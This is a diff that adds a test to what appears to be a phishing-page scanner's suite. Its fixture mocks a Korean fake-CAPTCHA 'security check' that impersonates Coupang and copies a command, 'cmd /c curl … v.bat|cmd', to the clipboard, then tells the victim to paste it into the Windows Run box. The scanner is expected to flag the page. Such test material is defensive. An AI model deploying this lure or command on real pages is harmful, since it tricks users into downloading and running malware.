@@ -199,4 +199,19 @@ describe("author T's fakes", () => {
     // a courier's own tracking page asks the same fee under its own name
     expect(scan(fee('<b>한결택배</b> 배송조회'), 'https://hangyeol-parcel.example/').verdict).toBe('clean');
   });
+
+  it("reads the brand's name signed on a command the page copies for the Run box as the brand's voice", () => {
+    const fix = (note: string) =>
+      page(
+        '확인 중',
+        '<div class="logo">C 보안 확인</div><p>보상 조회 페이지 접속 전 보안 확인</p><label><input type="checkbox" id="c"> 로봇이 아닙니다</label>' +
+          '<div id="st" hidden><ol><li><b>Win</b> + <b>R</b> 키를 누르세요</li><li><b>Ctrl</b> + <b>V</b> 로 붙여넣기</li><li><b>Enter</b>를 누르세요</li></ol></div>' +
+          `<script>document.getElementById('c').onchange=function(){navigator.clipboard.writeText('cmd /c curl -s 192.0.2.7/v.bat|cmd # ${note}');document.getElementById('st').hidden=false}</script>`,
+      );
+    expect(scan(fix('쿠팡 보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe(
+      'suspicious-page',
+    );
+    // the same kit signing with no name of the brand's is no Coupang page (another guard's to catch)
+    expect(scan(fix('보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe('clean');
+  });
 });
